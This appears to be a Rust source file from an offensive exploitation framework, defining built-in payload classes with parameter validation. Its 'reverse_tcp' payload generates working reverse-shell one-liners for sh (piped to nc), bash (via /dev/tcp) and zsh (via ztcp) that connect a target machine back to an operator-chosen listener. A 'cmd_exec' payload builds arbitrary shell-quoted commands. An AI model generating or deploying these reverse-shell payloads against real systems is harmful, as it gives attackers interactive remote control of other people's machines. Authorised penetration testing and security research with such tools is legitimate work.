//! Built-in payloads.

use super::{expect_integer, expect_str, expect_strings};
use crate::capability::{Buildable, Capability, PluginRejection};
use crate::class::ClassDefinition;
use crate::schema::{DeclaredType, ParamDecl};
use crate::value::ParamValue;

/// Characters a shell would interpret inside an unquoted word.
const SHELL_METACHARACTERS: &[char] = &[
    ';', '|', '&', '$', '`', '<', '>', '(', ')', '{', '}', '\\', '\'', '"', '*', '?', '!', '#', '~',
];

pub(super) fn reverse_tcp() -> ClassDefinition {
    ClassDefinition::new("Connects a shell back to a listener", || {
        Capability::buildable(ReverseTcp::default())
    })
    .with_params(vec![
        ParamDecl::new("host", DeclaredType::String)
            .required()
            .describe("Listener address"),
        ParamDecl::new("port", DeclaredType::Integer)
            .required()
            .with_range(1, 65_535)
            .describe("Listener port"),
        ParamDecl::new("shell", DeclaredType::choices(["sh", "bash", "zsh"]))
            .with_default(ParamValue::from("sh"))
            .describe("Shell to spawn"),
    ])
}

pub(super) fn cmd_exec() -> ClassDefinition {
    ClassDefinition::new("Runs a single command", || {
        Capability::buildable(CmdExec::default())
    })
    .with_params(vec![
        ParamDecl::new("command", DeclaredType::String)
            .required()
            .describe("Program or command line to run"),
        ParamDecl::new("args", DeclaredType::list_of(DeclaredType::String))
            .describe("Arguments, quoted individually"),
    ])
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
enum Shell {
    #[default]
    Sh,
    Bash,
    Zsh,
}

#[derive(Debug, Default)]
struct ReverseTcp {
    host: Option<String>,
    port: Option<u16>,
    shell: Shell,
}

impl Buildable for ReverseTcp {
    fn assign(&mut self, name: &str, value: &ParamValue) -> Result<(), PluginRejection> {
        match name {
            "host" => {
                let host = expect_str(value)?.trim();
                if host.is_empty() {
                    return Err(PluginRejection::new("host must not be empty"));
                }
                if host.chars().any(char::is_whitespace) {
                    return Err(PluginRejection::new("host must not contain whitespace"));
                }
                if let Some(bad) = host.chars().find(|c| SHELL_METACHARACTERS.contains(c)) {
                    return Err(PluginRejection::new(format!(
                        "host must not contain shell metacharacter '{bad}'"
                    )));
                }
                self.host = Some(host.to_owned());
            }
            "port" => {
                let port = expect_integer(value)?;
                let port = u16::try_from(port)
                    .ok()
                    .filter(|port| *port != 0)
                    .ok_or_else(|| PluginRejection::new(format!("{port} is not a TCP port")))?;
                self.port = Some(port);
            }
            "shell" => {
                self.shell = match expect_str(value)? {
                    "sh" => Shell::Sh,
                    "bash" => Shell::Bash,
                    "zsh" => Shell::Zsh,
                    other => return Err(PluginRejection::new(format!("unknown shell '{other}'"))),
                };
            }
            _ => return Err(PluginRejection::unknown_param(name)),
        }
        Ok(())
    }

    fn validate(&self) -> Result<(), PluginRejection> {
        match (&self.host, self.port) {
            (None, _) => Err(PluginRejection::new("host is not set")),
            (_, None) => Err(PluginRejection::new("port is not set")),
            (Some(_), Some(_)) => Ok(()),
        }
    }

    fn build(&self) -> Result<String, PluginRejection> {
        let (Some(host), Some(port)) = (&self.host, self.port) else {
            return Err(PluginRejection::new("host and port must be set"));
        };
        Ok(match self.shell {
            Shell::Sh => format!("sh -i 2>&1 | nc {host} {port}"),
            Shell::Bash => format!("bash -i >& /dev/tcp/{host}/{port} 0>&1"),
            Shell::Zsh => format!(
                "zsh -c 'zmodload zsh/net/tcp && ztcp {host} {port} && \
                 zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"
            ),
        })
    }
}

#[derive(Debug, Default)]
struct CmdExec {
    command: Option<String>,
    args: Vec<String>,
}

impl Buildable for CmdExec {
    fn assign(&mut self, name: &str, value: &ParamValue) -> Result<(), PluginRejection> {
        match name {
            "command" => {
                let command = expect_str(value)?.trim();
                if command.is_empty() {
                    return Err(PluginRejection::new("command must not be empty"));
                }
                if command.contains('\0') {
                    return Err(PluginRejection::new("command must not contain NUL bytes"));
                }
                self.command = Some(command.to_owned());
            }
            "args" => {
                let args = expect_strings(value)?;
                if args.iter().any(|arg| arg.contains('\0')) {
                    return Err(PluginRejection::new("arguments must not contain NUL bytes"));
                }
                self.args = args;
            }
            _ => return Err(PluginRejection::unknown_param(name)),
        }
        Ok(())
    }

    fn validate(&self) -> Result<(), PluginRejection> {
        let Some(command) = &self.command else {
            return Err(PluginRejection::new("command is not set"));
        };
        if !self.args.is_empty() && command.chars().any(char::is_whitespace) {
            return Err(PluginRejection::new(
                "command must name a single program when args are given",
            ));
        }
        Ok(())
    }

    fn build(&self) -> Result<String, PluginRejection> {
        let command = self
            .command
            .as_deref()
            .ok_or_else(|| PluginRejection::new("command is not set"))?;
        if self.args.is_empty() {
            return Ok(command.to_owned());
        }
        let words: Vec<String> = std::iter::once(command)
            .chain(self.args.iter().map(String::as_str))
            .map(shell_quote)
            .collect();
        Ok(words.join(" "))
    }
}

/// Wraps a word in single quotes, escaping embedded single quotes.
fn shell_quote(word: &str) -> String {
    format!("'{}'", word.replace('\'', r"'\''"))
}
